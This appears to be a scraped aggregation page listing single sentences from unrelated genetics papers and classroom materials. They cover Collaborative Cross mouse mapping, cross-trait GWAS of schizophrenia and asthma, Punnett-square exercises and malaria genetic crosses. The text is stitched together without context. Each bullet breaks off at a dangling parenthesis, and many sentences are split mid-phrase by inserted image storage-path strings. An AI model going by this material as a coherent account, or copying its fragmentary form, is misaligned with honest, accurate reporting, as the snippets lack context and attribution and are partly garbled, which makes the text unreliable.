  • Here we describe the SweGen data set, a comprehensive map of genetic variation in the Swedish population. (
  • While colocalization analyses were inconclusive, functional characterization of these variants provided the strongest evidence for a model in which genetic variation at rs1734907 modulates risk of schizophrenia and Crohn's disease via altered methylation and expression of EPHB4-a gene whose protein product guides the migration of neuronal axons in the brain and the migration of lymphocytes towards infected cells in the immune system. (
  • In our previous studies, we have shown that Collaborative Cross mice are a powerful tool for mapping loci responsible for phenotypic variation. (
  • As a first step towards identification of novel modifiers of Min , we assessed the phenotypic variation between 27 F1 crosses between different Collaborative cross mice and C57BL/6- Min lines. (
  • Variation in polyp development is controlled, an appreciable extent, by genetic factors segregating in the Collaborative cross population and suggests that it is suited for identifying modifier genes associated with Apc Min/+ mutation, after assessing sufficient number of lines for quantitative trait loci analysis. (
  • By crossing the mutant onto a population of mice with different genetic backgrounds of naturally occurring variation, it is theoretically possible to map modifier loci. (
  • Derived from classical inbred strains and wild-derived strains,the CC captures nearly 90% of known genetic variation in laboratory mice, far surpassing more commonly used inbred strains. (
  • Despite the influence of breeding selection in the CC lines, detection of major genetic loci regulating trait variation remained possible. (
  • The mouse has been an important model for studying Aspergillus infection, but classical laboratory strains of mice used in these studies arose from a small set of founders and lack most of the genetic variation present in wild mice, limiting researchers' ability to identify additional genetic loci relevant to disease. (• By integrating genetic variation data from the genomes of the founding strains of the CC, Durrant et al. (
  • As a phenotype, risk-taking behaviour therefore fits within a Research Domain Criteria (RDoC) approach, whereby identifying genetic determinants of this trait has the potential to improve our understanding across different psychiatric disorders. (
  • High heritability along with high genetic advance was observed for number of seeds/plant which indicates selection of this trait at early generation would be effective. (
  • Genetic markers and maps are instrumental inquantitative trait locus (QTL) mapping in segregatingpopulations. (
  • Analysis of this trait was performed by test crosses according to a novel pedigree program with the use of interlinear hybrids and a set of fourth-generation hybrid recombinant inbred lines. (
  • In addition, I also did a genome-wide cross trait analysis of 112,000 individuals from UK Biobank to investigate shared genetic architecture of asthma with allergic diseases. (
  • We used a logistic regression, linkage disequilibrium score regression, cross trait meta-analysis and GETx tissue enrichment analysis in this study. (
  • Cross trait analysis and identified 90 loci. (• Next, we investigated genome-wide sharing of common variants between schizophrenia and immune diseases using cross-trait LD score regression. (
  • The microstructure of trabecular bone is a composite trait governed by a complex interaction of multiple genetic determinants. (
  • utilized ancestry information of the CC strains to map genetic loci for a Mendelian trait (white head-spotting), a complex trait (body weight), and a molecular trait (gene expression in the liver), demonstrating the ancestry-based approach to be superior to established marker-based methods for trait loci discovery. (
  • If scientists want to know the genotype of a phenotypically wild-type fly, they can cross it with a fly that shows the recessive phenotype of the trait of interest. (
  • Second, we conducted a large-scale genome-wide cross-trait meta-analysis using cross-phenotype association to identify shared loci between trait pairs that showed significant genetic correlations in the first part. (
  • Students use a computer simulation, the commercial Biolabs Virtual Fly simulation, of fruit fly crosses to investigate the inheritance of a simple Mendeliantrait. (
  • Students observe the results of initial crosses, make hypotheses about the inheritance of the trait, design crosses to test their hypothesis, analyze the results of their experiment and draw conclusions about the inheritance. (
  • The assigned cross can be made more difficult than the example by using a mutant trait that is dominant (such as Lobe eye), lethal (Star eye), x-linked recessive (white eye) or even x-linked dominant (bar eye). (
  • The genetic control of arthritis is unique in comparison to diabetes, since none of these loci have been identified in analysis of diabetes susceptibility. (
  • This cross-cancer site, pooled analysis was performed to increase the power todetect common variants of DNA repair genes associated with cancer susceptibility. (
  • Furthermore, OCD with co-occurring Tourette's syndrome/chronic tics may have different underlying genetic susceptibility compared with OCD alone. (
  • A) with genetic susceptibility of knee OA in a Pakistani population. (
  • Our data suggest an association between investigated resistin genetic variants and knee OA susceptibility in our population. (
  • This suggests, that the genetic influence on cancer susceptibility might not be entirely due the combined additive effects of individual alleles. (
  • Experimental mouse models of cancer are ideal for examining the effects of genetic modifiers that act epistatically with known susceptibility loci. (
  • In this study, Durrant and colleagues utilized inbred mouse strains from the Collaborative Cross, taking advantage of the geneticcontribution of wild-derived strains, to identify novel loci that confer susceptibility to infection with the fungus Aspergillus. (
  • further refined the genetic loci associated with Aspergillus susceptibility to suggest specific candidate genes. (
  • Collaborative Cross mice and their power to map host susceptibility to Aspergillus fumigatus infection. (
  • Genetic testing has enabled researchers and clinicians to detect inherited traits, diagnose heritable conditions, determine and quantify the likelihood that a heritable disease will develop, and identify genetic susceptibility to familial disorders. (
  • Most existing genome-wide association analyses are cross-sectional, utilizing only phenotypic data at a single time point, e.g. baseline. (
  • Alzheimer's Disease Neuroimaging Initiative (ADNI) provides a rich source of brain imaging, neuropsychological and genetic data, including genome-wide single nucleotide polymorphisms (SNPs) [1] , [2] . (
  • To date, an association between a locus on chromosome 3 and risk-takingbehaviour has been published 10 , 11 , but no genome-wide genetic study with a primary focus on risk-taking behaviour has been conducted. (
  • The Pheno2Geno package makes use of genome-wide molecular profiling and provides a tool for high-throughput de novo map construction and saturation of existing genetic maps. (
  • We used data from large genome-wide association studies to compare the genetic architecture of schizophrenia to 19 immune diseases. (
  • Background: Genome-wide association studies have identified numerous genetic regions that influence cross-sectional lung function. (
  • Although no genetic variants have yet been associated with lung function decline at stringent genome-wide significance, longitudinal change in lung function is heritable suggesting that there is scope for future discoveries. (
  • We have demonstrated for the first time genome-wide significant association between several genetic loci and trabecular microstructural parameters for genes with previously reported experimental observations, as well as proposing a role for new candidate genes with no previously characterized skeletal function. (
  • The risk of developing cancer is higher in people who are born with certain genetic changes (mutations) that are passed on from their parents and found in every cell in their body. (
  • To perform these functions during the lifetime of organs or tissues, stem cells need to maintain their populations in a faithful distribution of their epigenetic states, which are susceptible to stochastic fluctuations during each cell division, unexpected injury, and potential genetic mutations that occur during many cell divisions. (
  • A genetic test is the analysis of human deoxyribonucleic acid (DNA), ribonucleic acid (RNA), chromosomes, and proteins to detect heritable disease-related genotypes, mutations, phenotypes, or karyotypes (standard pictures of the chromosomes in a cell) for the purposes of diagnosis, treatment, and other clinical decision making. (
  • Genetic testsmay detect mutations at the chromosomal level, such as additional, absent, or rearranged chromosomal material, or even subtler abnormalities such as a substitution in one of the bases that make up the DNA. (
  • Scientists used SNP genotyping in populations of freshwater sticklebackfish to determine the genetic mutations responsible for the impaired development of pelvises and spines. (
  • The emergence and rapid spread of artemisinin-resistant Plasmodium falciparum in southeast Asia highlights the importance of identifying genetic determinants of drug response and discovering novel potent antimalarials. (
  • We used a newly developed mouse resource population, the Collaborative Cross (CC), to identify genetic determinants of hematological parameters. (
  • Longitudinal decline in lung function also includes a heritable component but the genetic determinants have yet to be defined. (
  • The BeSeCu project employs two research strategies: A) A cross-cultural survey of individual experiences will be conducted to identify determinants of inter-individual differences in people who have experienced evacuation situations, fire disaster survivors and survivors of similar crisis situations, but also workers and first responders as well as those affected in the community. (
  • 2. Based on the phenotype and genotype information for the P cross from 1 above, record the genotypes and Expected Frequencies for P and F1 in Table 9.2. (• From these, one tolerant (ZL-11271) and one susceptible (R-2304-2) genotypes were crossed to develop six basic generations, being evaluated on mean day/night temperatures of 36.1°C/22.8°C (NS) and 42.3°C/25.9°C (HS) in factorial randomized complete block design with three replications. (
  • This study was carried out in 2012/13 cropping season to determine the genetic variability of 25 linseed genotypes derived from various crosses including checks. (
  • Most EV-71 strains circulating in Europe belong to genotypes C1 and C2, andpresence of herd immunity conferred by cross-protective antibodies induced by these types could explain the limited spread of new genotypes. (
  • Multiple studies have reported cross-neutralization, but antigenic diversity among different EV-71 genotypes has also been observed ( 11 - 17 ). (
  • To use Punnett squares to predict the results of genetic crosses and determine the genotypes of the parent flies in a particular cross. (
  • Fill in what is known about the genotypes of the flies in the cross. (
  • Use the principle of equal segregation to predict progeny of crosses of known genotypes for a single gene. (
  • The major difficulty students have with this assignment is understanding how to write genotypes and to use them to keep track of the alleles in a cross. (
  • Here, we used a high-density tiling array to estimate the genetic recombination rate among 32 progeny of a P. falciparum genetic cross (7G8 × GB4). (
  • Physical and genetic maps of the 14 P. falciparum chromosomes in the 7G8 × GB4 cross . (
  • Alistair Miles introduces the latest data the P. falciparum Genetic Crosses project. (
  • Read on to learn more and take a tour of the P. falciparum Genetic Crosses web application. (
  • Watch a video about the P. falciparum genetic crosses web application below. (
  • The MalariaGEN P. falciparum Genetic Crosses project was set up in 2012 with the goal of deep sequencing the parents and progeny of these three crosses. (
  • A number of genetic modifier loci of Min have been mapped, but so far most of theunderlying genes have not been identified. (
  • A Punnett square provides a way to visualize the genetic makeup of two parents andhow the genes recombine to form offspring. (
  • The overall results highlight the importance of cross-talk between genetic and epigenetic regulation and the performance objectives during homeostasis in shaping a desirable heterogeneous distribution of stem cells in epigenetic states. (
  • review and put forward some of these integrated approaches that have led to a productive collaboration and new insights into the genetic and epigenetic regulation of neurobehavioural traits related to psychiatric disorders. (
  • One hypothesis to account for the relationship is that these diseases share a common genetic etiology. (
  • Heritability has been estimated at high level for asthma and allergic diseases, which suggests that thegenetic contribution to them can be significant. (
  • We have found a strong genetic correlation between asthma and allergic diseases (Rg=0.75, P=6.84×10-62). (
  • GTEx tissue enrichment analysis showed shared genetic loci between asthma and allergic diseases were enriched in skin and esophageal tissue. (
  • Our GWAS study has highlighted shared genetic pathway in immune and inflammatory systems and skin/esophageal tissueby asthma and allergic diseases. (
  • Our findings suggest shared genetic risk factors contribute to the epidemiological association of certain immune diseases and schizophrenia. (
  • 23andMe customers can now receive information about genetic risk for diseases including Parkinson's and celiac. (
  • Scientists have bred new strains of lab animals with the goal of making it easier to tease out genetic components of complex diseases. (
  • This interactive uses the central dogma as a model for exploring how modern molecular biology technologies can be used to treat genetic diseases. (
  • Many people will go onestep further and send the raw data from their kit results to a third party lab that offers to reveal even more about genetic risks for certain diseases. (
  • Then, he said, he bought one for his father and the two decided to send their raw results to a third party company that crosschecked for genetic varations linked to diseases. (
  • A hands-on activity in which students analyze the results of genetic crosses between stickleback fish with different traits. (
  • D. Will a monohybrid F1 cross in corn yield the same ratio of expected phenotype in progeny as for the tobacco seedlings? (
  • 1. Based on what you can conclude about its genetic makeup when told that the corn plant parent cross (P) pictured in Figure 2 is between a completely dominant plant and a completely recessive plant, A. Construct and record a hypothesis about what the genetic makeup and the frequencies of the alleles for the F1 progeny plants in the dihybrid cross of corn will be. (
  • 3. Construct a Punnett Square for the P cross producing the F1 progeny. (
  • What is the only possible genetic outcome for the F1 progeny? (
  • C. Dihybrid F1 crosses result in a predictable F2 progeny phenotypic frequency that holds true universally. (
  • In support of these efforts, the parental lines and progeny of the 803xGB4 genetic cross were characterized by pharmaceutical compound screening and whole-genome sequencing (WGS). (
  • Each cross comprises two parents and up to 35 progeny clones. (
  • The phenotypes of the progeny of this cross will tell us the genotype of the wild-type parent. (
  • The development of the Collaborative Cross presents a unique opportunity to investigate how the breeding of inbred strains affects genetic structure and thediversity of phenotypes. (
  • In this article, as a case study, we conducted both longitudinal and cross-sectional analyses of the ADNI data with several brain imaging (not clinical diagnosis) phenotypes, demonstrating the power gains of longitudinal analysis over cross-sectional analysis. (
  • Xu Z, Shen X, Pan W, for the Alzheimer's Disease Neuroimaging Initiative (2014) Longitudinal Analysis Is More Powerful than Cross-Sectional Analysis in Detecting Genetic Association with Neuroimaging Phenotypes. (
  • Using this information, phenotypes can be converted into genetic markers. (
  • The Pheno2Geno tool uses mixture modeling to select phenotypes and transform them into genetic markers suitable for construction and/or saturation of a genetic map. (
  • In order to construct or improve genetic maps using high-throughput molecular markers, we scale up the mixture model approach for non-dichotomous phenotypes such as gene expression data. (
  • Here, without considering molecular details, we propose a genetic optimal control model for adult stem cell regeneration that includes the three fundamental processes, along with cell division and adaptation based on differential fitnesses of phenotypes. (
  • Heritability calculation showed that these phenotypes are mainly controlledby genetic factors. (
  • Genetic loci associated with risk-taking behaviour were identified on chromosomes 3 (rs13084531) and 6 (rs9379971). (
  • Genetic mapping of 353 F2 mice revealed two loci associated with arthritis. (
  • Significant correlations between genetic distance and both geographic and linguistic distance were observed at this larger scale. (
